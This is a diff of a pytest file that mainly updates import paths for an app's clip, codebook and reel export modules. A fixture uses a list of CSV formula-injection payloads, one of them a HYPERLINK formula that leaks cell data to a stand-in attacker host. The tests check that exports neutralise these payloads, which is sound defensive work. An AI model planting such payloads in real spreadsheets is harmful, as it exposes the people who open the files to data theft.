@@ -6,9 +6,13 @@ import csv
 
 import pytest
 
-from app import evidence
-from app.ops import clips, codebook, export, films, prototypes, reels
-from media import csv_cells
+from app.prototypes import evidence
+from app.clips import clips
+from app.codebook import codebook_files
+from app.reels import export, reels
+from app.films import importing
+from app.prototypes import prototypes
+from media.export import csv_cells
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\tTAB=1", "\rCR=1"]
@@ -36,7 +40,7 @@ def _dangerous(cells):
 
 @pytest.fixture
 def hostile_library(lib, counting_film):
-    (film,) = films.import_files(lib, [counting_film])
+    (film,) = importing.import_files(lib, [counting_film])
     ids = [clips.add(lib, film.film_id, i * 500_000, (i + 1) * 500_000, title=title, note=title, quote=title,
                      tags=[f"theme:{title.strip() or 'x'}"])
            for i, title in enumerate(HOSTILE)]
@@ -62,6 +66,6 @@ def test_evidence_csv_cells_cannot_run(hostile_library, tmp_path):
 
 def test_codebook_csv_cells_cannot_run(hostile_library, tmp_path):
     lib, _ = hostile_library
-    codebook.write_file(lib, tmp_path / "book.csv")
+    codebook_files.write_file(lib, tmp_path / "book.csv")
     cells = _cells(tmp_path / "book.csv")
     assert _dangerous(cells) == [] and "'+SUM(1,2)" in cells
